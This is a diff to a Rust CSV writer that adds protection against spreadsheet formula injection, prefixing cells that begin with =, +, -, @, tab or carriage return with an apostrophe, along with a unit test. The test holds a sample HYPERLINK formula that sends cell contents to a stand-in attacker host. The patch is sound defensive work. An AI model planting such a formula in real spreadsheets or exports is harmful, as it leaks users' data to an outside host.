@@ -359,13 +359,20 @@ fn safe_name(id: &str) -> String {
 }
 
 /// Appends one CSV record (RFC 4180: fields with a comma, quote or line break are quoted).
+/// Every CSV the connector writes goes through here. A field a spreadsheet would read as a
+/// formula — starting with `= + - @`, a tab or a carriage return: a guest can name themself
+/// `=HYPERLINK(…)` — is made inert text by OWASP's rule: a leading `'`, and quoted.
 fn csv_line(out: &mut String, fields: &[&str]) {
     for (i, field) in fields.iter().enumerate() {
         if i > 0 {
             out.push(',');
         }
-        if field.contains([',', '"', '\n', '\r']) {
+        let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        if formula || field.contains([',', '"', '\n', '\r']) {
             out.push('"');
+            if formula {
+                out.push('\'');
+            }
             out.push_str(&field.replace('"', "\"\""));
             out.push('"');
         } else {
@@ -384,6 +391,21 @@ mod tests {
         let mut out = String::new();
         csv_line(&mut out, &["a", "Smith, Ann", "say \"hi\"", "x\ny"]);
         assert_eq!(out, "a,\"Smith, Ann\",\"say \"\"hi\"\"\",\"x\ny\"\n");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_inert() {
+        let mut out = String::new();
+        let link = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
+        csv_line(
+            &mut out,
+            &[link, "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "Ann", "a=b", "2026-04-12"],
+        );
+        assert_eq!(
+            out,
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Open\"\")\",\"'+1\",\"'-2+3\",\
+             \"'@SUM(A1)\",\"'\tx\",\"'\r=1\",Ann,a=b,2026-04-12\n"
+        );
     }
 
     #[test]
